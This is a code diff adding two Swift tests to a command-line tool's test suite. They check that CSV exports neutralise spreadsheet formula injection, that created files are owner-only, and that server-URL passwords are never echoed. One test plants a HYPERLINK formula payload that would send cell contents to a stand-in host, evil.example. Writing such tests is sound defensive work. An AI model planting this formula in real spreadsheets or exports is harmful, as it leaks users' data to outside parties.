@@ -67,4 +67,40 @@ struct MoreCLITests {
         try cli.refused(["report", "salaries"], exit: 65, naming: "salaries")
         try cli.refused(["report", "needs", "--format", "pdf"], exit: 64, naming: "pdf")
     }
+
+    /// Synced text that a spreadsheet would run as a formula stays text in the office's CSV
+    /// (issue 24, finding 7), numbers stay numbers, and the files FieldSync creates are the
+    /// owner's only (finding 11).
+    @Test func csvCellsAFormulaWouldRunStayTextAndFilesAreTheOwnersOnly() throws {
+        let cli = try CLI(now: "2026-06-01T00:00:00Z")
+        try cli.ok("init", "--replica-name", "办公室")
+        let evil = #"=HYPERLINK("http://evil.example/?leak="&C5,"x")"#
+        try cli.ok("enterprise", "add", "--name", evil, "--credit-code", CreditCode.make(61), "--pool", "sme")
+        try cli.ok("enterprise", "add", "--name", "＋全角加号科技", "--credit-code", CreditCode.make(62), "--pool", "sme")
+        try cli.ok("enterprise", "add", "--name", "@提及科技", "--credit-code", CreditCode.make(63), "--pool", "sme")
+        let csv = cli.dir.appendingPathComponent("indicators.csv")
+        try Data("统一社会信用代码,年度,研发投入占比,营收增长率,知识产权数,科技人员占比\n\(CreditCode.make(61)),2026,0.05,-0.10,2,0.3\n\(CreditCode.make(62)),2026,0.04,0.1,1,0.2\n\(CreditCode.make(63)),2026,0.03,0.2,1,0.2\n".utf8).write(to: csv)
+        try cli.ok("indicator", "import", csv.path)
+        let out = cli.dir.appendingPathComponent("ranking.csv").path
+        try cli.ok("report", "ranking", "--year", "2026", "--format", "csv", "--lang", "zh", "--output", out)
+        let text = String(decoding: try #require(FileManager.default.contents(atPath: out)), as: UTF8.self)
+        let cells = text.split(whereSeparator: { $0 == "\r\n" || $0 == "\n" }).flatMap { $0.split(separator: ",") }.map(String.init)
+        #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/"), "\(text)")
+        #expect(cells.contains("'＋全角加号科技") && cells.contains("'@提及科技"), "\(text)")
+        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") || $0.hasPrefix("@") || $0.hasPrefix("＋") }, "\(text)")
+        for path in [out, cli.db] {
+            let mode = (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? NSNumber)?.intValue ?? -1
+            #expect(mode == 0o600, "\(path) is \(String(mode, radix: 8))")
+        }
+    }
+
+    /// A server address with a user and password is never shown (issue 24, finding 14).
+    @Test func aServerURLsPasswordIsNeverShown() throws {
+        let cli = try CLI()
+        try cli.ok("init", "--replica-name", "笔记本")
+        let r = try cli.run(["sync", "--server", "http://alice:s3cret-pass@127.0.0.1:1", "--token", "t", "--retries", "1"])
+        #expect(r.status != 0)
+        #expect(!r.stderr.contains("s3cret") && !r.stdout.contains("s3cret"), "\(r.stderr)")
+        #expect(r.stderr.contains("127.0.0.1:1"), "\(r.stderr)")
+    }
 }
